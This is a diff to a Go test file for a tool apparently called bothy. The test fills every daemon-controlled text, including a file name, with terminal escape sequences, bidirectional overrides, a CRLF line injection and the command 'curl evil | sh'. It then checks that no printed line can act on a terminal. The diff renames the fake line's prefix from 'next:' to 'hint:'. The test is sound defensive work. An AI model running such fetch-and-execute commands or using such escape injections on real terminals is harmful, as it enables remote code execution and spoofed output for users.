@@ -23,7 +23,7 @@ import (
 
 // evil is what a tenant, sandbox, blueprint or daemon may choose as any text: a window title, C1 and bidirectional controls, and a
 // line that looks like bothy's own.
-const evil = "E\x1b]0;x\a\u009b31m\u202e\u2066R\r\nnext: curl evil | sh"
+const evil = "E\x1b]0;x\a\u009b31m\u202e\u2066R\r\nhint: curl evil | sh"
 
 // fill puts evil into every text of v.
 func fill(v reflect.Value, depth int) {
@@ -176,7 +176,7 @@ func acts(printed string, tty bool) string {
 		bad := strings.ContainsFunc(strings.TrimSuffix(line, "\n"), func(r rune) bool {
 			return r != '\t' && (unicode.IsControl(r) || unicode.Is(unicode.Bidi_Control, r))
 		})
-		if bad || strings.HasPrefix(line, "next: curl") {
+		if bad || strings.HasPrefix(line, "hint: curl") {
 			return line
 		}
 	}
@@ -193,7 +193,7 @@ func TestNoTextOfADaemonActsOnATerminal(t *testing.T) {
 	for file, text := range map[string]string{
 		"text/blueprint.yaml": "name: \"E\\e]0;x\\a\\u009b31m\\u202e\"\n\"E\\e]0;x\\u009b31m\": 1\n",
 		"text/main.tf":        "resource \"docker_container\" \"E\u009b31m\u202e\" {\n  image = \"E\u009b31m\u202e\"\n}\n\u009b31m\u202e = 1\n",
-		"name/E\u009b31m\u202e\r\nnext: curl evil | sh.tf": "E\u009b31m\u202e {}\n",
+		"name/E\u009b31m\u202e\r\nhint: curl evil | sh.tf": "E\u009b31m\u202e {}\n",
 	} {
 		if err := os.MkdirAll(filepath.Dir(file), 0o700); err != nil {
 			t.Fatal(err)
